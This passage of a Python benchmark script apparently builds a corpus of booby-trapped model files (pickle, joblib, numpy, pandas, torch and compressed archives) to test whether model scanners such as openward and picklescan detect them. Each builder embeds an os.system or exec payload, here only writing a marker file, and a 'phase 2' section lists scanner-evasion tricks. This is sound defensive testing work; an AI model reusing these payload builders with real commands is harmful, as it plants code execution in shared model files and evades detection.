    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        mapped = torch.from_file({str(ctx.marker)!r}, shared=True, size=1)
        self.w = state[0] + mapped.sum() * 0
        self.training = state[1]
    def forward(self, x):
        return x + self.w
torch.jit.save(torch.jit.script(M()), {str(ctx.path)!r})
"""
    with tempfile.TemporaryDirectory() as tmp:
        script = Path(tmp) / "make_ts.py"
        script.write_text(src)
        subprocess.run([str(LOADER_PYTHON), str(script)], check=True, capture_output=True)


@technique(
    "sleepy-pickle-model",
    "sleepy.pt",
    "torch.load(weights_only=False)",
    TORCH_LOAD,
    "Trail of Bits 'Sleepy Pickle' (2024): a real checkpoint whose pickle runs code that "
    "patches the model at load",
    "torch.save of a genuine state dict with an exec() of a model-patching payload riding "
    "in one value (here the payload only touches the marker).",
)
def _sleepy(ctx: Ctx) -> None:
    code = ctx.code + "\nimport torch; torch.nn.Linear.extra_repr = lambda self: 'patched'"
    ctx.path.write_bytes(torch_zip_bytes(model_with(Payload(exec, code))))


# --- joblib ---


@technique(
    "joblib-object-array-nested-pickle",
    "object_array.joblib",
    "joblib.load",
    JOBLIB_LOAD,
    "derived: joblib/numpy_pickle.py NumpyArrayWrapper.read_array pickles object arrays "
    "with a second pickle.load in the middle of the stream",
    "joblib.dump of an object ndarray: the payload sits in a nested pickle that joblib "
    "reads mid-stream after the wrapper's BUILD.",
)
def _joblib_object(ctx: Ctx) -> None:
    import joblib
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = system_payload(ctx)
    joblib.dump({"coef": np.zeros(3), "extra": arr}, ctx.path)


@technique(
    "joblib-raw-array-desync",
    "desync.joblib",
    "joblib.load",
    JOBLIB_LOAD,
    "derived: joblib writes numeric array bytes raw inside the pickle stream "
    "(NumpyArrayWrapper.write_array)",
    "An array whose raw bytes are STOP opcodes ('.') precedes the payload in the outer "
    "stream: a parser that reads the bytes as opcodes stops before the payload.",
)
def _joblib_desync(ctx: Ctx) -> None:
    import joblib
    import numpy as np

    raw = np.frombuffer(b"." * 64, dtype=np.uint8).copy()
    joblib.dump([raw, system_payload(ctx)], ctx.path)


@technique(
    "joblib-zlib-compressed",
    "compressed.joblib",
    "joblib.load",
    JOBLIB_LOAD,
    "ModelAudit changelog (joblib compressed payloads); joblib/compressor.py",
    "joblib.dump(..., compress=('zlib', 3)): the pickle is inside a zlib stream.",
)
def _joblib_zlib(ctx: Ctx) -> None:
    import joblib

    joblib.dump({"model": system_payload(ctx)}, ctx.path, compress=("zlib", 3))


@technique(
    "joblib-xz-compressed",
    "compressed_xz.joblib",
    "joblib.load",
    JOBLIB_LOAD,
    "joblib/compressor.py (xz/lzma magic autodetected by joblib.load)",
    "joblib.dump(..., compress='xz'): the pickle is inside an xz stream.",
)
def _joblib_xz(ctx: Ctx) -> None:
    import joblib

    joblib.dump({"model": system_payload(ctx)}, ctx.path, compress="xz")


# --- numpy ---


@technique(
    "npy-object-array",
    "object.npy",
    "numpy.load(allow_pickle=True)",
    NP_LOAD,
    "numpy/lib/format.py read_array (object dtype is a pickle); CVE-2019-6446 class",
    "An .npy whose dtype is object: the array body is a pickle.",
)
def _npy(ctx: Ctx) -> None:
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0] = system_payload(ctx)
    np.save(ctx.path, arr, allow_pickle=True)


@technique(
    "np-load-pickle-fallback",
    "weights.npy",
    "numpy.load(allow_pickle=True)",
    NP_LOAD,
    "numpy/lib/_npyio_impl.py load: neither zip nor .npy magic -> pickle.load",
    "A file named .npy that is a plain pickle: np.load falls back to pickle.load.",
)
def _np_fallback(ctx: Ctx) -> None:
    ctx.path.write_bytes(PROTO2 + call(glob("os", "system"), ustr(ctx.cmd)) + STOP)


@technique(
    "npz-member-without-suffix",
    "arrays.npz",
    "numpy.load(allow_pickle=True)['arr']",
    "import numpy as np\nnp.load(PATH, allow_pickle=True)['arr']",
    "derived: numpy NpzFile.__getitem__ accepts the key as 'arr.npy' or 'arr'",
    "An .npz whose object-array member is named 'arr' (no .npy suffix) and is deflate-compressed.",
)
def _npz(ctx: Ctx) -> None:
    import numpy as np

    arr = np.empty(1, dtype=object)
    arr[0] = system_payload(ctx)
    buf = io.BytesIO()
    np.save(buf, arr, allow_pickle=True)
    with zipfile.ZipFile(ctx.path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("ok.npy", _npy_bytes(np.zeros(3)))
        z.writestr("arr", buf.getvalue())


def _npy_bytes(arr: Any) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, arr)
    return buf.getvalue()


# --- pandas ---


@technique(
    "pandas-read-pickle-bz2",
    "frame.pkl.bz2",
    "pandas.read_pickle (compression inferred from the name)",
    "import pandas as pd\npd.read_pickle(PATH)",
    "pandas/io/pickle.py read_pickle(compression='infer'); Checkmarx/Protect AI notes on "
    "pandas.read_pickle as a pickle loader",
    "A bz2-compressed pickle: read_pickle decompresses by extension and unpickles.",
)
def _pandas_bz2(ctx: Ctx) -> None:
    ctx.path.write_bytes(bz2.compress(PROTO2 + call(glob("os", "system"), ustr(ctx.cmd)) + STOP))


@technique(
    "pandas-read-pickle-tar",
    "frame.pkl.tar",
    "pandas.read_pickle (compression inferred from the name)",
    "import pandas as pd\npd.read_pickle(PATH)",
    "pandas/io/common.py get_handle: '.tar' compression opens the single member",
    "A tar holding one pickle member; read_pickle extracts it in memory and unpickles.",
)
def _pandas_tar(ctx: Ctx) -> None:
    content = PROTO2 + call(glob("os", "system"), ustr(ctx.cmd)) + STOP
    with tarfile.open(ctx.path, "w") as tar:
        info = tarfile.TarInfo("frame.pkl")
        info.size = len(content)
        tar.addfile(info, io.BytesIO(content))


@technique(
    "zlib-raw-stream",
    "model.pkl.z",
    "pickle.loads(zlib.decompress(...)) (a loader that decompresses first)",
    "import pickle, zlib\npickle.loads(zlib.decompress(open(PATH, 'rb').read()))",
    "ModelAudit/modelscan changelogs: compressed pickles; ReversingLabs nullifAI",
    "A raw zlib stream of a pickle (no container header beyond zlib's two bytes).",
)
def _zlib(ctx: Ctx) -> None:
    ctx.path.write_bytes(zlib.compress(PROTO2 + call(glob("os", "system"), ustr(ctx.cmd)) + STOP))


# --- Phase 2: bypasses found by reading and attacking openward (branch atk-pickle).
# Not held out: each was found because openward missed it. The builders are the
# zoo samples that now guard each fix (openward._zoo.joblib_arrays, .torch_archives).

TRY = "try:\n    {}\nexcept Exception as e:\n    print('raised', type(e).__name__)"


def _phase2(
    name: str, filename: str, loader: str, load: str, description: str, builder: str
) -> None:
    def build(ctx: Ctx) -> None:
        import importlib

        module, func = builder.rsplit(".", 1)
        make = getattr(importlib.import_module(f"openward._zoo.{module}"), func)
        ctx.path.write_bytes(make(ctx.cmd))

    TECHNIQUES.append(
        Technique(
            name,
            filename,
            loader,
            load,
            "phase 2 (atk-pickle), openward._zoo." + builder,
            description,
            build,
            group="phase 2",
        )
    )


_JOBLIB_TRY = "import joblib\n" + TRY.format("joblib.load(PATH)")
_phase2(
    "p2-joblib-dtype-flags",
    "dtype_flags.joblib",
    "joblib.load",
    _JOBLIB_TRY,
    "float64 dtype whose pickled object flag numpy ignores (np.dtype('f8', False, False))",
    "joblib_arrays.flags_on_builtin_dtype",
)
_phase2(
    "p2-joblib-state-ordereddict",
    "state_call.joblib",
    "joblib.load",
    _JOBLIB_TRY,
    "array wrapper whose BUILD state is collections.OrderedDict([...])",
    "joblib_arrays.ordered_dict_state",
)
_phase2(
    "p2-joblib-build-after-wrapper",
    "double_build.joblib",
    "joblib.load",
    _JOBLIB_TRY,
    "a BUILD right after the wrapper's (ndarray.__setstate__ for joblib)",
    "joblib_arrays.build_after_wrapper",
)
_phase2(
    "p2-joblib-float-space",
    "float.joblib",
    "joblib.load",
    _JOBLIB_TRY,
    "FLOAT ' 1_0.5' that only Python's unpickler reads",
    "joblib_arrays.float_line_python_reads",
)
_phase2(
    "p2-joblib-long-frame",
    "long_frame.joblib",
    "joblib.load",
    _JOBLIB_TRY,
    "FRAME longer than the file (Python's unpickler reads the short frame)",
    "joblib_arrays.frame_past_the_end",
)
_phase2(
    "p2-bz2-empty-first-stream",
    "frame.pkl.bz2",
    "pandas.read_pickle",
    "import pandas as pd\npd.read_pickle(PATH)",
    "bz2 file whose first stream is empty",
    "joblib_arrays.bz2_empty_first_stream",
)
_phase2(
    "p2-lzma-small-dictionary",
    "frame.pkl.xz",
    "pandas.read_pickle",
    "import pandas as pd\npd.read_pickle(PATH)",
    ".lzma (alone) stream with a 3 KiB dictionary named .pkl.xz",
    "joblib_arrays.lzma_small_dictionary",
)
_phase2(
    "p2-torch-zip-code-named-os",
    "code_os.pt",
    "torch.load(weights_only=False)",
    TORCH_LOAD,
    "torch zip without constants.pkl whose code/os.py defines class system",
    "torch_archives.code_named_like_a_module",
)
_phase2(
    "p2-torch-tar-v7-checksum",
    "v7.pt",
    "torch.load(weights_only=False)",
    "import torch\n" + TRY.format("torch.load(PATH, weights_only=False)"),
    "legacy tar with version-7 headers, checksum 'NNNNNN\\0X'",
    "torch_archives.v7_tar_with_junk_after_checksum",
)
_phase2(
    "p2-joblib-object-array-in-frame",
    "in_frame.joblib",
    "joblib.load",
    _JOBLIB_TRY,
    "object-array wrapper built before the end of its FRAME (nested pickle after the frame)",
    "joblib_arrays.object_array_inside_frame",
)
_phase2(
    "p2-joblib-wrapper-in-object-array",
    "wrapper_in_object.joblib",
    "joblib.load",
    _JOBLIB_TRY,
    "array wrapper inside an object array's nested pickle (an ordinary object to joblib)",
    "joblib_arrays.wrapper_inside_object_array",
)
_phase2(
    "p2-lz4-skippable-frame",
    "lz4_skip.joblib",
    "joblib.load",
    _JOBLIB_TRY,
    "joblib lz4 pickle split in two frames by a skippable frame",
    "joblib_arrays.lz4_split_by_skippable_frame",
)
_phase2(
    "p2-zstd-skippable-frame",
    "frame.pkl.zst",
    "zstd.open + pickle.load",
    "import pickle\nfrom backports import zstd\npickle.load(zstd.open(PATH))",
    "zstd pickle behind a skippable frame",
    "joblib_arrays.zstd_after_skippable_frame",
)
_phase2(
    "p2-7z-crc-after-payload",
    "model.7z",
    "py7zr extract + pickle.load",
    "import os, pickle, py7zr, tempfile\nd = tempfile.mkdtemp()\n"
    + TRY.format("py7zr.SevenZipFile(PATH).extractall(d)")
    + "\npickle.load(open(os.path.join(d, 'model.pt'), 'rb'))",
    "7z: model.pt, then a member whose CRC fails",
    "torch_archives.sevenzip_with_bad_crc_after_payload",
)


# ---------------------------------------------------------------------------
# Running the corpus
# ---------------------------------------------------------------------------


def build(root: Path) -> list[tuple[Technique, Path, Path]]:
    corpus, markers = root / "corpus", root / "markers"
    shutil.rmtree(root, ignore_errors=True)
    corpus.mkdir(parents=True)
    markers.mkdir()
    built = []
    for tech in TECHNIQUES:
        path = corpus / tech.name / tech.filename
        path.parent.mkdir()
        marker = markers / tech.name
        tech.build(Ctx(path, marker))
        built.append((tech, path, marker))
    return built


def live(tech: Technique, path: Path, marker: Path, source: str) -> tuple[bool, str]:
    marker.unlink(missing_ok=True)
    code = f"PATH = {str(path)!r}\n" + source
    with tempfile.TemporaryDirectory() as cwd:
        try:
            proc = subprocess.run(
                [str(LOADER_PYTHON), "-c", code],
                cwd=cwd,
                capture_output=True,
                text=True,
                timeout=LIVE_TIMEOUT_S,
                stdin=subprocess.DEVNULL,
            )
            note = (proc.stderr.strip().splitlines() or [""])[-1][:120]
        except subprocess.TimeoutExpired:
            note = "timeout"
    ok = marker.exists()
    marker.unlink(missing_ok=True)
    return ok, note


def openward_verdict(path: Path, src: Path = REPO / "src") -> dict[str, Any]:
    env = {k: v for k, v in os.environ.items() if k not in {"PYTHONHOME", "VIRTUAL_ENV"}}
    env["PYTHONPATH"] = str(src)
    proc = subprocess.run(
        [str(LOADER_PYTHON), "-m", "openward", "scan", str(path), "--json"],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
        stdin=subprocess.DEVNULL,
    )
    try:
        report = json.loads(proc.stdout)
    except json.JSONDecodeError:
        return {"hit": False, "note": "error", "detail": proc.stderr[-200:], "rc": proc.returncode}
    high = [
        f"{f['rule_id']}/{f['severity']}"
        for f in report["findings"]
        if f["severity"] in {"high", "critical"}
    ]
    rest = [
        f"{f['rule_id']}/{f['severity']}"
        for f in report["findings"]
        if f["severity"] not in {"high", "critical"}
    ]
    detail = ", ".join(sorted(set(high))) or ("below high: " + ", ".join(sorted(set(rest))))
    return {"hit": bool(high), "note": "", "detail": detail, "rc": proc.returncode}


def peer_verdicts(tools: list[str], path: Path, scratch: Path) -> dict[str, dict[str, Any]]:
    import scan_peers

    out = {}
    sample = SimpleNamespace(malicious=True)
    for name in tools:
        tool = scan_peers.TOOL_CLASSES[name](scratch)
        verdict = tool.scan(sample, path)  # type: ignore[arg-type]
        out[name] = {
            "hit": verdict.hit,
            "note": verdict.note,
            "detail": verdict.detail,
            "rc": verdict.rc,
        }
    return out


def peer_versions() -> dict[str, str]:
    probe = (
        "import importlib.metadata as m, json\n"
        "print(json.dumps({p: m.version(p) for p in "
        "('picklescan','modelscan','fickling','modelaudit','torch','numpy')}))"
    )
    peer_py = REPO / "benchmarks" / ".venv-peers" / "bin" / "python"
    proc = subprocess.run([str(peer_py), "-c", probe], capture_output=True, text=True)
    found: dict[str, str] = json.loads(proc.stdout) if proc.returncode == 0 else {}
    head = subprocess.run(
        ["git", "rev-parse", "--short", "HEAD"], cwd=REPO, capture_output=True, text=True
    ).stdout.strip()
    dirty = subprocess.run(
        ["git", "status", "--porcelain", "--untracked-files=no", "src"],
        cwd=REPO,
        capture_output=True,
        text=True,
    ).stdout.strip()
    found["openward"] = f"git {head}{'+dirty' if dirty else ''}"
    import importlib.metadata as m

    for p in ("torch", "numpy", "joblib", "pandas", "py7zr"):
        found[f"{p} (loaders)"] = m.version(p)
    return found


def markdown(results: list[dict[str, Any]], tools: list[str], meta: dict[str, Any]) -> str:
    lines = [
        f"Date: {meta['date']}. Versions: "
        + ", ".join(f"{k} {v}" for k, v in meta["versions"].items()),
        "",
        "| # | technique | loader | live | " + " | ".join(tools) + " |",
        "|---|---|---|---|" + "---|" * len(tools),
    ]
    for i, row in enumerate(results, 1):
        cells = []
        for t in tools:
            v = row["tools"][t]
            mark = "✓" if v["hit"] else "✗"
            if not v["hit"] and v.get("note"):
                mark += f" ({v['note']})"
            cells.append(mark)
        lines.append(
            f"| {i} | `{row['name']}` | {row['loader']} | {row['live']} | "
            + " | ".join(cells)
            + " |"
        )
    for group in ("held-out", "phase 2"):
        rows = [r for r in results if r.get("group", "held-out") == group]
        if not rows:
            continue
        live_rows = [r for r in rows if r["live"] == "yes"]
        lines.append(
            f"| | **{group}: detected (of {len(rows)} / of {len(live_rows)} live)** | | | "
            + " | ".join(
                f"**{sum(r['tools'][t]['hit'] for r in rows)} / "
                f"{sum(r['tools'][t]['hit'] for r in live_rows)}**"
                for t in tools
            )
            + " |"
        )
    lines += ["", "openward details (findings at high or above; else what it reported):", ""]
    for row in results:
        lines.append(f"- `{row['name']}`: {row['tools'].get('openward', {}).get('detail', '')}")
    return "\n".join(lines) + "\n"


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=Path(tempfile.gettempdir()) / "heldout-pickle")
    parser.add_argument("--tools", default="openward,picklescan,modelscan,fickling,modelaudit")
    parser.add_argument("--no-live", action="store_true", help="skip the liveness checks")
    parser.add_argument("--only", default="", help="comma-separated technique names")
    parser.add_argument(
        "--baseline-src",
        type=Path,
        help="another openward src/ to score as column 'openward-base' (e.g. the commit "
        "this branch started from: git archive REV src | tar -x -C DIR)",
    )
    args = parser.parse_args()
    tools = [t for t in args.tools.split(",") if t]
    if args.baseline_src is not None:
        tools.insert(0, "openward-base")
    global TECHNIQUES
    if args.only:
        wanted = set(args.only.split(","))
        TECHNIQUES = [t for t in TECHNIQUES if t.name in wanted]
    built = build(args.out)
    scratch = args.out / "scratch"
    scratch.mkdir()
    results = []
    for tech, path, _marker in built:
        row: dict[str, Any] = {
            "name": tech.name,
            "file": path.name,
            "loader": tech.loader,
            "source": tech.source,
            "description": tech.description,
            "group": tech.group,
            "tools": {},
        }
        if "openward-base" in tools:
            row["tools"]["openward-base"] = openward_verdict(path, args.baseline_src)
        if "openward" in tools:
            row["tools"]["openward"] = openward_verdict(path)
        peers = [t for t in tools if not t.startswith("openward")]
        if peers:
            row["tools"] |= peer_verdicts(peers, path, scratch)
        print(tech.name, {t: v["hit"] for t, v in row["tools"].items()}, flush=True)
        results.append(row)
    leaked = sorted(p.name for p in (args.out / "markers").iterdir())
    if leaked:
        print("A SCANNER EXECUTED A PAYLOAD:", leaked, file=sys.stderr)
        return 3
    for (tech, path, marker), row in zip(built, results, strict=True):
        if args.no_live:
            row["live"] = "not checked"
            continue
        if tech.skip:
            row["live"] = f"skipped: {tech.skip}"
            continue
        ok, note = live(tech, path, marker, tech.load)
        row["live"] = "yes" if ok else "NO"
        row["live_note"] = note
        for label, source in tech.also.items():
            also_ok, also_note = live(tech, path, marker, source)
            row.setdefault("also", {})[label] = {"live": also_ok, "note": also_note}
    meta = {
        "date": datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%d %H:%M UTC"),
        "versions": peer_versions(),
    }
    (args.out / "heldout.json").write_text(json.dumps({"meta": meta, "results": results}, indent=1))
    text = markdown(results, tools, meta)
    (args.out / "heldout.md").write_text(text)
    print(text)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
